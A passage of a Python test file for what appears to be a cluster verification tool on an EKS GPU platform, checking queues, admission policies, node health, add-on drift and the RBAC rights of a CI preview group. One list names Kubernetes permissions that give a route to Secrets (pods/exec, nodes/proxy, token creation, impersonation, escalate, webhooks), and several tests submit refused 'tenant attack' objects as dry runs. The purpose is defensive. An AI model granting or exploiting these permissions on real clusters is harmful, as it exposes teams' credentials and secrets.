def test_a_team_default_service_account_pulumi_never_patched_fails(ctx, cluster):
    sa = cluster.get("/api/v1/namespaces/llm/serviceaccounts/default")
    sa["metadata"]["managedFields"] = [{"manager": "kube-controller-manager"}]
    cluster.put(sa)
    outcome = one("kube.cluster-made", ctx)
    assert outcome.status == "FAIL" and "llm/default has no pulumi-kubernetes field manager" in outcome.evidence


def test_a_healthy_autoscaler_status_passes(ctx):
    assert one("kube.autoscaler-status", ctx).evidence == "kube-system/cluster-autoscaler-status: Healthy"


@pytest.mark.parametrize(
    "text",
    [AUTOSCALER_STATUS_YAML.replace("status: Healthy", "status: Unhealthy"), "Cluster-wide:\n  Health:      Unhealthy"],
    ids=["yaml", "text"],
)
def test_an_unhealthy_autoscaler_fails(ctx, cluster, text):
    cm = cluster.get("/api/v1/namespaces/kube-system/configmaps/cluster-autoscaler-status")
    cm["data"]["status"] = text
    cluster.put(cm)
    outcome = one("kube.autoscaler-status", ctx)
    assert outcome.status == "FAIL" and outcome.evidence.endswith("cluster-wide health Unhealthy")


def test_without_the_podgroup_webhook_the_queues_check_fails(ctx, cluster):
    cluster.delete_now(f"/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations/{checks.PODGROUP_WEBHOOK}")
    outcome = one("kube.queues", ctx)
    assert outcome.status == "FAIL" and "PodGroups keep queue default" in outcome.evidence


def test_open_team_queues_pass(ctx):
    assert one("kube.queues", ctx).status == "PASS"


def test_a_closed_queue_fails(ctx, cluster):
    queue = cluster.get("/apis/scheduling.volcano.sh/v1beta1/queues/research")
    queue["status"]["state"] = "Closed"
    cluster.put(queue)
    outcome = one("kube.queues", ctx)
    assert outcome.status == "FAIL" and "llm: queue research Closed" in outcome.evidence


def test_planned_admission_policies_present_pass(ctx):
    outcome = one("kube.admission-policies", ctx)
    assert outcome.status == "PASS" and "9 ValidatingAdmissionPolicies" in outcome.evidence


def test_a_missing_admission_policy_fails(ctx, cluster):
    cluster.delete_now("/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/higgsfield-team-llm")
    outcome = one("kube.admission-policies", ctx)
    assert outcome.status == "FAIL" and "missing: higgsfield-team-llm" in outcome.evidence


def test_an_admission_policy_with_a_type_checking_warning_fails(ctx, cluster):
    path = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies/higgsfield-team-vision"
    vap = cluster.get(path)
    vap["status"]["typeChecking"] = {
        "expressionWarnings": [{"fieldRef": "spec.validations[0].expression", "warning": "undefined field 'queu'"}]
    }
    cluster.put(vap)
    outcome = one("kube.admission-policies", ctx)
    assert (
        outcome.status == "FAIL" and "higgsfield-team-vision: type-checking warning undefined field" in outcome.evidence
    )


def test_tenant_attacks_refused_by_admission_pass_and_store_nothing(ctx, cluster):
    outcome = one("kube.tenant-attacks", ctx)
    assert outcome.status == "PASS"
    assert "foundation: a TFJob named higgsfield-verify-attack (no tf-) refused (403)" in outcome.evidence
    assert "foundation: a TFJob with cleanPodPolicy None refused (403)" in outcome.evidence
    assert "foundation: a TFJob managed by kueue.x-k8s.io/multikueue refused (403)" in outcome.evidence
    assert "foundation: a TFJob whose pods carry a finalizer refused (403)" in outcome.evidence
    assert "foundation: a DaemonSet on the GPU nodes refused (403)" in outcome.evidence
    assert "foundation: a PodGroup in another queue refused (403)" in outcome.evidence
    assert (
        "POST",
        "/apis/scheduling.volcano.sh/v1beta1/namespaces/llm/podgroups?dryRun=All&fieldValidation=Strict",
    ) in cluster.requests
    assert ("POST", "/apis/kubeflow.org/v1/namespaces/llm/tfjobs?dryRun=All&fieldValidation=Strict") in cluster.requests
    assert not [k for k in cluster.objects if k[2] in ("podgroups", "tfjobs") or k[3] == checks.ATTACK_NAME]


def test_a_tenant_attack_admitted_fails(ctx, cluster):
    cluster.admit = None  # no binding in force
    outcome = one("kube.tenant-attacks", ctx)
    assert outcome.status == "FAIL" and "a PodGroup in queue" in outcome.evidence
    assert "a TFJob named higgsfield-verify-attack (no tf-) was admitted" in outcome.evidence
    assert "a TFJob with cleanPodPolicy None was admitted" in outcome.evidence
    assert "a TFJob managed by kueue.x-k8s.io/multikueue was admitted" in outcome.evidence
    assert "a TFJob whose pods carry a finalizer was admitted" in outcome.evidence
    assert "a DaemonSet on the GPU nodes was admitted" in outcome.evidence
    stored = [k for k in cluster.objects if k[2] in ("podgroups", "tfjobs") or k[3] == checks.ATTACK_NAME]
    assert not stored  # dry runs even when admitted


def _team_refusals(plan, job_of) -> list[list[str]]:
    from components.teams import rules_of
    from tests.security.test_tenancy import denied_by

    return [
        denied_by(job_of(team), rules_of(team, plan.config.scheduler.priority_classes, pools=plan.config.gpu_pools))
        for team in plan.config.scheduler.teams
    ]


def test_the_trial_job_is_admitted_by_every_team_policy_as_it_stands(plan):
    """So each attack below is refused for what it changes, and nothing else."""
    assert _team_refusals(plan, lambda team: checks.trial_job(team, name=checks.TRIAL_JOB_NAME)) == [
        [] for _ in plan.config.scheduler.teams
    ]


def test_the_misnamed_job_is_refused_by_the_team_policy_for_its_name_alone(plan):
    """Else a policy refusing it for another reason would pass the check on a cluster without the name rule."""
    for refused in _team_refusals(plan, checks.trial_job):
        assert len(refused) == 1 and refused[0].startswith("a Kubeflow job's name starts with its kind's prefix")


def test_the_lingering_job_is_refused_by_the_team_policy_for_its_clean_pod_policy_alone(plan):
    def lingering(team):
        return checks.trial_job(team, name=checks.TRIAL_JOB_NAME, clean_pod_policy="None")

    for refused in _team_refusals(plan, lingering):
        assert len(refused) == 1 and "cleanPodPolicy" in refused[0]


def test_the_handed_away_job_is_refused_by_the_team_policy_for_its_manager_alone(plan):
    def handed_away(team):
        return checks.trial_job(team, name=checks.TRIAL_JOB_NAME, managed_by=checks.OTHER_MANAGER)

    for refused in _team_refusals(plan, handed_away):
        assert len(refused) == 1 and "managedBy" in refused[0]


def test_the_job_with_a_finalizer_is_refused_by_the_team_policy_for_its_finalizer_alone(plan):
    def held(team):
        return checks.trial_job(team, name=checks.TRIAL_JOB_NAME, finalizer=checks.ATTACK_FINALIZER)

    for refused in _team_refusals(plan, held):
        assert len(refused) == 1 and "finalizers" in refused[0]


def test_the_gpu_daemon_set_is_refused_by_the_team_policy_for_taking_gpu_nodes_alone(plan):
    for refused in _team_refusals(
        plan, lambda team: checks.gpu_daemon_set(team, checks.plain_class(plan.config, team))
    ):
        assert refused and all("GPU node" in m for m in refused), refused


def test_the_team_policies_fail_closed(plan):
    from components import tenancy
    from components.teams import rules_of

    for team in plan.config.scheduler.teams:
        rules = rules_of(team, plan.config.scheduler.priority_classes, pools=plan.config.gpu_pools)
        assert tenancy.admission_policy(rules)["spec"]["failurePolicy"] == "Fail"


def test_a_stack_with_one_team_queue_still_tries_the_misnamed_job(ctx, plan):
    only = plan.config.scheduler.model_copy(update={"teams": plan.config.scheduler.teams[:1]})
    ctx.plan = types.SimpleNamespace(config=plan.config.model_copy(update={"scheduler": only}), of_type=plan.of_type)
    outcome = one("kube.tenant-attacks", ctx)
    assert outcome.status == "PASS" and "PodGroup" not in outcome.evidence and "(no tf-) refused" in outcome.evidence


def _kubeflow_job(kind: str, name: str, namespace: str = "vision") -> dict:
    return {"apiVersion": "kubeflow.org/v1", "kind": kind, "metadata": {"name": name, "namespace": namespace}}


def test_kubeflow_jobs_named_as_their_kinds_pass(ctx, cluster):
    cluster.put(_kubeflow_job("PyTorchJob", "llama"))
    cluster.put(_kubeflow_job("TFJob", "tf-mnist"))
    outcome = one("kube.job-names", ctx)
    assert outcome.status == "PASS" and "2 Kubeflow jobs" in outcome.evidence


def test_a_job_made_before_the_name_rule_fails_naming_it(ctx, cluster):
    """Its name could still be taken by a job of another kind, which would share its gang."""
    cluster.put(_kubeflow_job("TFJob", "mnist"))
    outcome = one("kube.job-names", ctx)
    assert outcome.status == "FAIL" and "vision/mnist: a TFJob's name starts with 'tf-'" in outcome.evidence


def _cleaned(job: dict, policy: str | None = "Running") -> dict:
    job["spec"] = {"runPolicy": {"cleanPodPolicy": policy}} if policy else {}
    return job


def test_kubeflow_jobs_that_delete_their_running_pods_when_finished_pass(ctx, cluster):
    cluster.put(_cleaned(_kubeflow_job("PyTorchJob", "llama")))
    cluster.put(_cleaned(_kubeflow_job("TFJob", "tf-mnist"), "All"))
    outcome = one("kube.job-cleanup", ctx)
    assert outcome.status == "PASS" and "2 Kubeflow jobs" in outcome.evidence


@pytest.mark.parametrize("policy", [None, "None"], ids=["unset", "None"])
def test_a_job_made_before_the_clean_pod_policy_rule_fails_naming_it(ctx, cluster, policy):
    """Once finished, its running pods would outlive its PodGroup, outside every queue."""
    cluster.put(_cleaned(_kubeflow_job("PyTorchJob", "llama"), policy))
    outcome = one("kube.job-cleanup", ctx)
    assert outcome.status == "FAIL" and "vision/llama: cleanPodPolicy" in outcome.evidence


def test_ready_daemon_sets_pass(ctx):
    assert one("kube.daemon-sets", ctx).status == "PASS"


def test_a_health_gate_not_ready_fails(ctx, cluster):
    ds = cluster.get("/apis/apps/v1/namespaces/higgsfield-health/daemonsets/health-gate-h100")
    ds["status"] = {"desiredNumberScheduled": 2, "numberReady": 1}
    cluster.put(ds)
    outcome = one("kube.daemon-sets", ctx)
    assert outcome.status == "FAIL" and "higgsfield-health/health-gate-h100: 1/2 ready" in outcome.evidence


def gpu_node(name: str, health: str | None, tainted: bool, gpus: str = "8") -> dict:
    labels = {names.POOL_LABEL: "h100", **({names.HEALTH_LABEL: health} if health else {})}
    taints = [{"key": names.GPU_RESOURCE, "value": "true", "effect": "NoSchedule"}]
    if tainted:
        taints.append({"key": names.STARTUP_TAINT_KEY, "value": "pending", "effect": "NoSchedule"})
    return {
        "apiVersion": "v1",
        "kind": "Node",
        "metadata": {"name": name, "labels": labels},
        "spec": {"taints": taints},
        "status": {"allocatable": {names.GPU_RESOURCE: gpus, names.EFA_RESOURCE: "32"}},
    }


def test_a_healthy_node_of_an_efa_pool_without_efa_devices_fails(ctx, cluster):
    node = gpu_node("ip-10-0-1-5", "healthy", tainted=False)  # every pool of prod is an EFA pool
    del node["status"]["allocatable"][names.EFA_RESOURCE]
    cluster.put(node)
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "no vpc.amazonaws.com/efa allocatable" in outcome.evidence


def test_no_gpu_node_up_skips(ctx):
    assert one("kube.gpu-nodes", ctx).status == "SKIP"


def test_gated_nodes_healthy_and_untainted_or_failed_and_tainted_pass(ctx, cluster):
    cluster.put(gpu_node("ip-10-0-1-5", "healthy", tainted=False))
    cluster.put(gpu_node("ip-10-0-1-6", "unhealthy", tainted=True))
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "PASS" and "ip-10-0-1-5 (h100): healthy, 8 GPU" in outcome.evidence


def test_a_healthy_node_still_tainted_fails(ctx, cluster):
    cluster.put(gpu_node("ip-10-0-1-5", "healthy", tainted=True))
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "health 'healthy' but startup taint on" in outcome.evidence


def test_a_failed_node_without_the_taint_fails(ctx, cluster):
    cluster.put(gpu_node("ip-10-0-1-5", "unhealthy", tainted=False))
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "startup taint off" in outcome.evidence


def test_a_healthy_node_without_gpus_fails(ctx, cluster):
    cluster.put(gpu_node("ip-10-0-1-5", "healthy", tainted=False, gpus="0"))
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "no nvidia.com/gpu allocatable" in outcome.evidence


def test_a_gpu_node_carrying_the_kernel_monitors_condition_fails(ctx, cluster):
    """KernelReady on a node means the agent's kernel monitor runs there, whose condition a team's text in the kubelet's
    log turns False, and node repair replaces the node under every team's pods."""
    node = gpu_node("ip-10-0-1-5", "healthy", tainted=False)
    node["status"]["conditions"] = [{"type": "KernelReady", "status": "True", "reason": "KernelIsReady"}]
    cluster.put(node)
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "ip-10-0-1-5: carries KernelReady" in outcome.evidence


def _kernel_condition_stamped(ago: datetime.timedelta, status: str = "True") -> dict:
    """A healthy GPU node whose KernelReady the node monitoring agent last stamped `ago` before NOW (the agent
    refreshes lastHeartbeatTime every 5 minutes while its kernel monitor runs)."""
    node = gpu_node("ip-10-0-1-5", "healthy", tainted=False)
    node["status"]["conditions"] = [
        {"type": "KernelReady", "status": status, "reason": "KernelIsReady", "lastHeartbeatTime": _time(NOW - ago)}
    ]
    return node


def test_a_kernel_condition_the_agent_still_stamps_points_at_the_agents_configuration_not_the_health_gate(ctx, cluster):
    """A KernelReady stamped minutes ago: the kernel monitor runs, so the fix is the add-on's configuration, which
    aws.addons compares with the plan and `pulumi up` sets; the health gate's logs have nothing to say about it."""
    cluster.put(_kernel_condition_stamped(datetime.timedelta(minutes=2)))
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "renewed lately" in outcome.evidence
    assert "--only aws.addons" in outcome.fix and "pulumi up" in outcome.fix
    assert "health-gate" not in outcome.fix


def test_a_kernel_condition_renewed_by_an_agent_not_yet_rolled_to_the_planned_settings_says_it_may_be_rolling(
    ctx, cluster
):
    """The node's agent pod carries no planned monitors' annotation yet: the old agent still runs its kernel monitor
    there, which is what the line says, and the fix names the DaemonSet's rollout to wait for."""
    cluster.put(_kernel_condition_stamped(datetime.timedelta(minutes=2)))
    cluster.put(
        {
            "apiVersion": "v1",
            "kind": "Pod",
            "metadata": {
                "name": "eks-node-monitoring-agent-old",
                "namespace": "kube-system",
                "labels": {"app.kubernetes.io/name": "eks-node-monitoring-agent"},
            },
            "spec": {"nodeName": "ip-10-0-1-5", "containers": [{"name": "agent", "image": "x"}]},
            "status": {"phase": "Running", "startTime": _time(NOW - datetime.timedelta(days=3))},
        }
    )
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "renewed lately" in outcome.evidence
    assert "rollout status ds/eks-node-monitoring-agent" in outcome.fix


def test_a_kernel_condition_left_false_from_before_the_monitor_went_off_says_so_and_how_to_remove_it(ctx, cluster):
    """The agent never removes a condition it stopped setting: a node whose KernelReady was False before the release
    keeps it, unstamped since, and node repair still replaces it. That is no sign of the monitor being on, and the
    fix removes the condition."""
    cluster.put(_kernel_condition_stamped(datetime.timedelta(hours=3), status="False"))
    outcome = one("kube.gpu-nodes", ctx)
    assert outcome.status == "FAIL" and "left from before its monitor went off" in outcome.evidence
    assert "renewed lately" not in outcome.evidence
    assert "kubectl replace --subresource status" in outcome.fix and "health-gate" not in outcome.fix


def _gang_deadline(cluster) -> dict:
    return cluster.get("/apis/batch/v1/namespaces/higgsfield-capacity/cronjobs/gang-deadline")


def test_a_cron_job_that_succeeded_a_minute_ago_passes(ctx):
    outcome = one("kube.cron-jobs", ctx)
    assert outcome.status == "PASS" and "higgsfield-capacity/gang-deadline: last success 50 s ago" in outcome.evidence


def test_a_gang_deadline_whose_passes_fail_fails(ctx, cluster):
    """A pass fails when a team's policy refuses one of its patches: that team's idle nodes stay held."""
    job = _gang_deadline(cluster)
    job["status"]["lastSuccessfulTime"] = _time(NOW - datetime.timedelta(hours=2))
    cluster.put(job)
    outcome = one("kube.cron-jobs", ctx)
    assert outcome.status == "FAIL" and "gang-deadline: last success 7200 s ago" in outcome.evidence


def test_a_gang_deadline_that_never_succeeded_fails(ctx, cluster):
    job = _gang_deadline(cluster)
    job["status"] = {}
    cluster.put(job)
    outcome = one("kube.cron-jobs", ctx)
    assert outcome.status == "FAIL" and "gang-deadline: last success never" in outcome.evidence


def test_a_stack_without_its_named_interruption_queue_fails_naming_the_administrators_deploy(aws_ctx, aws):
    """A stack whose administrator deployed Karpenter before the stack named its queue has one of a generated name
    (or none yet): the check says which name it looked for and who makes it, not SQS's bare error."""
    _with_karpenter(aws_ctx)
    aws.client("sqs").create_queue(QueueName="karpenter-interruptions-4f2a9c1")
    outcome = one("aws.karpenter-queue", aws_ctx)
    assert outcome.status == "FAIL" and names.interruption_queue(STACK) in outcome.evidence
    assert "pulumi up --stack prod" in outcome.fix and "administrator" in outcome.fix


def _addons_answered(
    aws_ctx,
    plan,
    versions_by_name: dict[str, str],
    status: str = "ACTIVE",
    configured: dict[str, str] | None = None,
    others: tuple[str, ...] = (),
) -> Stubber:
    """ListAddons, in botocore's eks shape (addons, nextToken), names the add-ons the plan installs and `others` over
    two pages; then DescribeAddon (Addon.addonName, addonVersion, status, configurationValues) for each add-on the
    plan installs: the version given, else the same release as the floor's (an EKS default at or above it); the
    configuration given, else the planned one (EKS answers the text it was given)."""
    stub = _stubbed(aws_ctx, "eks")
    listed = [*sorted(r.inputs["addonName"] for r in plan.of_type(checks.ADDON)), *others]
    half = len(listed) // 2
    stub.add_response("list_addons", {"addons": listed[:half], "nextToken": "page-2"}, {"clusterName": CLUSTER})
    stub.add_response("list_addons", {"addons": listed[half:]}, {"clusterName": CLUSTER, "nextToken": "page-2"})
    for resource in sorted(plan.of_type(checks.ADDON), key=lambda r: r.inputs["addonName"]):
        name = resource.inputs["addonName"]
        version = versions_by_name.get(name, "v9.9.9-eksbuild.1")
        values = (configured or {}).get(name, resource.inputs.get("configurationValues"))
        answer = {"addonName": name, "clusterName": CLUSTER, "addonVersion": version, "status": status}
        stub.add_response(
            "describe_addon",
            {"addon": {**answer, **({"configurationValues": values} if values else {})}},
            {"clusterName": CLUSTER, "addonName": name},
        )
    return stub


def test_planned_addons_active_at_or_above_their_floor_pass(aws_ctx, plan):
    _addons_answered(aws_ctx, plan, {})
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "PASS" and "eks-node-monitoring-agent v9.9.9-eksbuild.1" in outcome.evidence


def test_a_node_monitoring_agent_below_its_floor_fails_naming_it(aws_ctx, plan):
    """An agent downgraded by hand, or installed by a console before the stack's: up to v1.6.3 it reads a team's own
    XID 13 and 31 as the GPU failed, and node repair replaces a shared node (infra/core/versions.py ADDON_FLOORS)."""
    _addons_answered(aws_ctx, plan, {"eks-node-monitoring-agent": "v1.6.3-eksbuild.1"})
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "FAIL" and "eks-node-monitoring-agent v1.6.3-eksbuild.1: below v1.6.4" in outcome.evidence
    assert "higgsfield:addonVersions" in outcome.fix


def test_a_node_monitoring_agent_whose_kernel_monitor_was_turned_back_on_fails(aws_ctx, plan):
    """An UpdateAddon by hand that drops the agent's configuration turns its kernel monitor on again: a team's text in
    the kubelet's log would then bring node repair on a shared node (components/addons.py
    NODE_MONITORING_AGENT_CONFIGURATION), and `pulumi up` keeps a changed add-on until a refresh shows it."""
    _addons_answered(aws_ctx, plan, {}, configured={"eks-node-monitoring-agent": "{}"})
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "FAIL" and "eks-node-monitoring-agent v9.9.9-eksbuild.1: configured {}" in outcome.evidence
    assert '"kernel-monitor": {"enabled": false}' in outcome.evidence


def test_a_reconfigured_addons_fix_says_pulumi_up_sets_the_planned_configuration_back(aws_ctx, plan):
    _addons_answered(aws_ctx, plan, {}, configured={"eks-node-monitoring-agent": "{}"})
    assert "planned versions and configuration" in one("aws.addons", aws_ctx).fix


def test_an_addon_configured_in_yaml_as_planned_passes(aws_ctx, plan):
    """EKS takes configuration values as JSON or YAML: the same values in YAML are no drift."""
    planned = {r.inputs["addonName"]: r.inputs.get("configurationValues") for r in plan.of_type(checks.ADDON)}
    agent = yaml.safe_dump(json.loads(planned["eks-node-monitoring-agent"]))
    _addons_answered(aws_ctx, plan, {}, configured={"eks-node-monitoring-agent": agent})
    assert one("aws.addons", aws_ctx).status == "PASS"


def test_an_addon_that_is_not_active_fails(aws_ctx, plan):
    _addons_answered(aws_ctx, plan, {}, status="DEGRADED")
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "FAIL" and "DEGRADED" in outcome.evidence


def test_an_addon_the_plan_does_not_make_fails_naming_it_and_its_removal(aws_ctx, plan):
    """An add-on someone installed beside the plan's (on ListAddons' second page) runs its own pods, perhaps with a
    role of its own: it is named, with the command that removes it, whatever the planned ones' state."""
    _addons_answered(aws_ctx, plan, {}, others=("aws-mountpoint-s3-csi-driver",))
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "FAIL"
    assert "aws-mountpoint-s3-csi-driver: an add-on the plan does not make" in outcome.evidence
    assert "aws eks delete-addon --cluster-name higgsfield-prod --addon-name NAME" in outcome.fix


GUARDDUTY_AGENT = "aws-guardduty-agent"


def _guardduty_agent_answered(aws_ctx, plan, **carries) -> None:
    """ListAddons names GuardDuty's security agent beside the planned add-ons, and DescribeAddon answers it (after the
    planned ones) as GuardDuty's automated agent configuration installs it: no role (the add-on "doesn't require any
    permissions": awsdocs/amazon-eks-user-guide:latest/ug/workloads/eks-add-ons.adoc@4d52b4d0), unless `carries`."""
    stub = _addons_answered(aws_ctx, plan, {}, others=(GUARDDUTY_AGENT,))
    agent = {"addonName": GUARDDUTY_AGENT, "clusterName": CLUSTER, "addonVersion": "v1.12.1-eksbuild.2"}
    stub.add_response(
        "describe_addon",
        {"addon": {**agent, "status": "ACTIVE", **carries}},
        {"clusterName": CLUSTER, "addonName": GUARDDUTY_AGENT},
    )


def test_guarddutys_agent_on_a_healthy_cluster_passes_named_as_guarddutys(aws_ctx, plan):
    """An account (or its organization's GuardDuty administrator) with EKS Runtime Monitoring's automated agent
    configuration gets GuardDuty's agent on every cluster, this fresh one too: not the program's, and no failure."""
    _guardduty_agent_answered(aws_ctx, plan)
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "PASS", outcome.evidence
    assert "aws-guardduty-agent v1.12.1-eksbuild.2 (GuardDuty's, no role)" in outcome.evidence


def test_a_guardduty_agent_with_a_role_fails_naming_the_role(aws_ctx, plan):
    """GuardDuty installs its agent with no role: one that carries a role was made or changed by someone else, and
    its pods get that role's rights."""
    role = "arn:aws:iam::123456789012:role/higgsfield-prod-own"
    _guardduty_agent_answered(aws_ctx, plan, serviceAccountRoleArn=role)
    outcome = one("aws.addons", aws_ctx)
    assert outcome.status == "FAIL"
    assert f"aws-guardduty-agent: carries {role}, GuardDuty's agent no role" in outcome.evidence


# --- the CI preview group's reads --------------------------------------------------------------------------


def test_the_preview_groups_reads_as_planned_pass(ctx):
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "PASS", outcome.evidence


def test_bindings_not_the_programs_that_let_the_preview_list_or_watch_a_teams_service_accounts_fail(ctx, cluster):
    """A pull request's preview would read every team's ServiceAccounts (their role annotations) cluster-wide; a watch
    streams every ServiceAccount of the namespace whole, as a list returns them. Each binding is named (one run of the
    check for both)."""
    _bound_to_preview(cluster, "wide", {"apiGroups": [""], "resources": ["serviceaccounts"], "verbs": ["list"]})
    _bound_to_preview(
        cluster, "watch-accounts", {"apiGroups": [""], "resources": ["serviceaccounts"], "verbs": ["watch"]}
    )
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL"
    assert "may list serviceaccounts in llm" in outcome.evidence
    assert "may watch serviceaccounts in llm" in outcome.evidence


def test_a_missing_by_name_role_fails_naming_the_object_the_preview_cannot_get(ctx, cluster, plan):
    from components.kubernetes_objects import PREVIEW_GETS

    cluster.delete_now(f"/apis/rbac.authorization.k8s.io/v1/namespaces/llm/roles/{PREVIEW_GETS}")
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may not get " in outcome.evidence and " in llm" in outcome.evidence


def test_a_by_name_role_that_lets_the_preview_get_only_a_rules_first_name_fails_naming_the_next(ctx, cluster):
    """Each name of a by-name rule is an object the preview reads before its dry run: one the Role no longer names is
    as missing as the first."""
    from components.kubernetes_objects import PREVIEW_GETS

    path = f"/apis/rbac.authorization.k8s.io/v1/namespaces/llm/roles/{PREVIEW_GETS}"
    role = cluster.get(path)
    rule = next(r for r in role["rules"] if len(r.get("resourceNames") or []) > 1)
    second = rule["resourceNames"][1]
    rules = [{**r, "resourceNames": r["resourceNames"][:1]} if r is rule else r for r in role["rules"]]
    cluster.put({**role, "rules": rules})
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and f"may not get {rule['resources'][0]}/{second} in llm" in outcome.evidence


def test_a_binding_to_every_authenticated_user_that_reads_secrets_fails_the_preview_too(ctx, cluster):
    """The preview role's requests carry `system:authenticated` beside its own group: a read bound to every user is
    the preview's."""
    rule = {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}
    _bound_to_preview(cluster, "everyone", rule, group="system:authenticated")
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may get secrets cluster-wide" in outcome.evidence


# The preview's reads that a pull request could turn against a team or the cluster, each bound to the preview group
# by a binding not the program's: the check must fail on every one.
RBAC = "rbac.authorization.k8s.io"


def _bound_to_preview(cluster, name: str, rule: dict, namespace: str = "", group: str = names.PREVIEW_GROUP) -> None:
    """A ClusterRole `name` of `rule`, bound to `group` (the preview's) cluster-wide, or in `namespace` by a
    RoleBinding."""
    cluster.put({"apiVersion": f"{RBAC}/v1", "kind": "ClusterRole", "metadata": {"name": name}, "rules": [rule]})
    kind, meta = ("RoleBinding", {"name": name, "namespace": namespace}) if namespace else ("ClusterRoleBinding", {})
    cluster.put(
        {
            "apiVersion": f"{RBAC}/v1",
            "kind": kind,
            "metadata": meta or {"name": name},
            "roleRef": {"apiGroup": RBAC, "kind": "ClusterRole", "name": name},
            "subjects": [{"apiGroup": RBAC, "kind": "Group", "name": group}],
        }
    )


# (verb, group, resource, what the check says) of each way beside a Secret's get
ANOTHER_WAY = [
    # a list or a watch returns every Secret whole, as a get does one
    ("list", "", "secrets", "may list secrets"),
    ("watch", "", "secrets", "may watch secrets"),
    # a command in any pod, or a container's terminal: every mounted Secret and token
    ("create", "", "pods/exec", "may create pods/exec"),
    ("create", "", "pods/attach", "may create pods/attach"),
    # the kubelet's API: every pod's logs and exec on the node
    ("get", "", "nodes/proxy", "may get nodes/proxy"),
    # a token of any ServiceAccount: its RBAC, and its IAM role through Pod Identity
    ("create", "", "serviceaccounts/token", "may create serviceaccounts/token"),
    # any other user's rights
    ("impersonate", "", "users", "may impersonate users"),
    ("impersonate", "", "groups", "may impersonate groups"),
    # a binding or a role with rights the binder has not
    ("bind", RBAC, "clusterroles", "may bind clusterroles"),
    ("escalate", RBAC, "clusterroles", "may escalate clusterroles"),
    # a webhook that is sent every object admitted, Secrets among them
    (
        "create",
        "admissionregistration.k8s.io",
        "mutatingwebhookconfigurations",
        "may create mutatingwebhookconfigurations",
    ),
    (
        "create",
        "admissionregistration.k8s.io",
        "validatingwebhookconfigurations",
        "may create validatingwebhookconfigurations",
    ),
    # a client certificate of any name
    (
        "update",
        "certificates.k8s.io",
        "certificatesigningrequests/approval",
        "may update certificatesigningrequests/approval",
    ),
    # a hostPath volume: the node's files
    ("create", "", "persistentvolumes", "may create persistentvolumes"),
    # a team namespace's Pod Security labels
    ("patch", "", "namespaces", "may patch namespaces"),
]


def test_each_binding_that_lets_the_preview_reach_a_teams_secrets_another_way_is_named(ctx, cluster):
    """A pull request's preview that may do any of these reads a team's Secrets or acts as someone who may: each
    binding, one beside the other, is named (one run of the check for all)."""
    for i, (verb, group, resource, _) in enumerate(ANOTHER_WAY):
        _bound_to_preview(cluster, f"another-way-{i}", {"apiGroups": [group], "resources": [resource], "verbs": [verb]})
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL"
    assert [what for *_, what in ANOTHER_WAY if f"{what} cluster-wide" not in outcome.evidence] == []


def test_each_binding_that_lets_the_preview_read_pods_or_events_another_way_is_named(ctx, cluster):
    """A pod's spec holds its env (values written inline among them), command and image."""
    ways = [("get", "pods"), ("watch", "pods"), ("watch", "events")]
    for i, (verb, resource) in enumerate(ways):
        _bound_to_preview(cluster, f"pods-{i}", {"apiGroups": [""], "resources": [resource], "verbs": [verb]})
    outcome = one("kube.preview-access", ctx)
    assert [f"{v} {r}" for v, r in ways if f"may {v} {r} cluster-wide" not in outcome.evidence] == []


def test_each_binding_that_lets_the_preview_list_a_teams_workloads_or_config_is_named(ctx, cluster):
    """A team's ConfigMaps may hold anything, its workloads' and jobs' specs their env, commands and images: the
    preview reads none of a team's (components/delivery.py PREVIEW_READS)."""
    kinds = [("", "configmaps"), ("", "services"), ("apps", "deployments"), ("batch", "jobs")]
    kinds.append((names.KUBEFLOW_GROUP, "pytorchjobs"))
    for i, (group, resource) in enumerate(kinds):
        rule = {"apiGroups": [group], "resources": [resource], "verbs": ["list"]}
        _bound_to_preview(cluster, f"team-config-{i}", rule, "llm")
    outcome = one("kube.preview-access", ctx)
    assert [r for _, r in kinds if f"may list {r} in llm" not in outcome.evidence] == []


def test_a_binding_in_kube_system_that_lets_the_preview_get_its_secrets_fails(ctx, cluster):
    """A RoleBinding outside the team namespaces is as much a pull request's read: kube-system's Secrets."""
    cluster.put({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": "kube-system"}})
    _bound_to_preview(
        cluster, "system-secrets", {"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"]}, "kube-system"
    )
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may get secrets in kube-system" in outcome.evidence


def test_a_binding_of_every_resources_exec_subresource_to_the_preview_fails(ctx, cluster):
    """`*/exec` grants pods/exec as the API server's RBAC authorizer reads it: the preview runs commands in pods."""
    _bound_to_preview(cluster, "any-exec", {"apiGroups": [""], "resources": ["*/exec"], "verbs": ["create"]})
    outcome = one("kube.preview-access", ctx)
    assert outcome.status == "FAIL" and "may create pods/exec cluster-wide" in outcome.evidence


def test_a_binding_that_lets_the_preview_list_persistent_volumes_fails(ctx, cluster):
    """Each PersistentVolume of a team's claim names the claim, its namespace and its size (spec.claimRef, capacity):
    the preview gets the program's by name (components/kubernetes_objects.py CLUSTER_NAMED_READS), lists none."""
